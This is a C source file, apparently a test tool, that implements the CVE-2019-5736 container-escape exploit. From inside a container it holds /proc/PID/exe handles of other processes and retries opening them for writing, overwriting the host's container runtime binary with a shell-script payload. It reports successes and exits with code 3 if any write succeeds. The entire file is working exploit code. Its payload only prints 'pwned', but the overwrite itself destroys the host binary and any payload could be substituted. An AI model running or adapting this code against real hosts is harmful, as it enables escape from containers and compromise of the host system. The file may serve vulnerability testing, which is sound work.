/* exe_overwrite: the CVE-2019-5736 attack, run as a container's process.
 *
 *   exe_overwrite [SECONDS]      (default 8)
 *
 * For SECONDS, it keeps scanning /proc/[0-9]* for processes other than
 * itself, opens each /proc/PID/exe with O_PATH (so the handle survives the
 * process exiting), and keeps trying to reopen every handle it holds through
 * /proc/self/fd/N with O_WRONLY|O_TRUNC and to write a payload. If the
 * runtime that joined the container (runtime exec running "#!/proc/self/exe")
 * is the host binary itself, the write eventually succeeds once that binary
 * is no longer busy, and the host binary is overwritten.
 * Prints one "OVERWRITTEN pid=P exe=TARGET" line per success and finally a
 * summary line "exe_overwrite: seen=N written=W etxtbsy=B other=O".
 * Exits 3 if anything was written, 0 otherwise. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#define MAXH 512

struct handle { int pid; int fd; int done; char target[256]; };

static double now (void)
{
  struct timespec ts;
  clock_gettime (CLOCK_MONOTONIC, &ts);
  return ts.tv_sec + ts.tv_nsec / 1e9;
}

int main (int argc, char **argv)
{
  double secs = argc > 1 ? atof (argv[1]) : 8;
  double end = now () + secs;
  static struct handle h[MAXH];
  int nh = 0, written = 0, etxtbsy = 0, other = 0, lasterr = 0;
  int self = getpid ();
  static const char payload[] = "#!/bin/sh\necho pwned by exe_overwrite\n";
  setvbuf (stdout, NULL, _IOLBF, 0);
  printf ("exe_overwrite: pid %d running for %.0f s\n", self, secs);
  while (now () < end)
    {
      DIR *d = opendir ("/proc");
      struct dirent *e;
      while (d && (e = readdir (d)))
        {
          int pid = atoi (e->d_name);
          if (pid <= 0 || pid == self)
            continue;
          int known = 0;
          for (int i = 0; i < nh; i++)
            if (h[i].pid == pid)
              known = 1;
          if (known || nh >= MAXH)
            continue;
          char p[64];
          snprintf (p, sizeof p, "/proc/%d/exe", pid);
          int fd = open (p, O_PATH | O_CLOEXEC);
          if (fd < 0)
            continue;
          h[nh].pid = pid;
          h[nh].fd = fd;
          h[nh].done = 0;
          ssize_t n = readlink (p, h[nh].target, sizeof h[nh].target - 1);
          h[nh].target[n > 0 ? n : 0] = 0;
          printf ("exe_overwrite: holding pid %d exe %s\n", pid, h[nh].target);
          nh++;
        }
      if (d)
        closedir (d);
      for (int i = 0; i < nh; i++)
        {
          if (h[i].done)
            continue;
          char p[64];
          snprintf (p, sizeof p, "/proc/self/fd/%d", h[i].fd);
          int w = open (p, O_WRONLY | O_TRUNC | O_CLOEXEC);
          if (w < 0)
            {
              if (errno == ETXTBSY)
                etxtbsy++;
              else
                {
                  other++;
                  if (errno != lasterr)
                    printf ("exe_overwrite: pid %d (%s): %s\n", h[i].pid, h[i].target, strerror (errno));
                  lasterr = errno;
                }
              continue;
            }
          if (write (w, payload, sizeof payload - 1) > 0)
            {
              written++;
              printf ("OVERWRITTEN pid=%d exe=%s\n", h[i].pid, h[i].target);
            }
          else
            printf ("exe_overwrite: opened pid %d exe for writing but write failed: %s\n",
                    h[i].pid, strerror (errno));
          close (w);
          h[i].done = 1;
        }
      usleep (2000);
    }
  printf ("exe_overwrite: seen=%d written=%d etxtbsy=%d other=%d\n", nh, written, etxtbsy, other);
  return written ? 3 : 0;
}
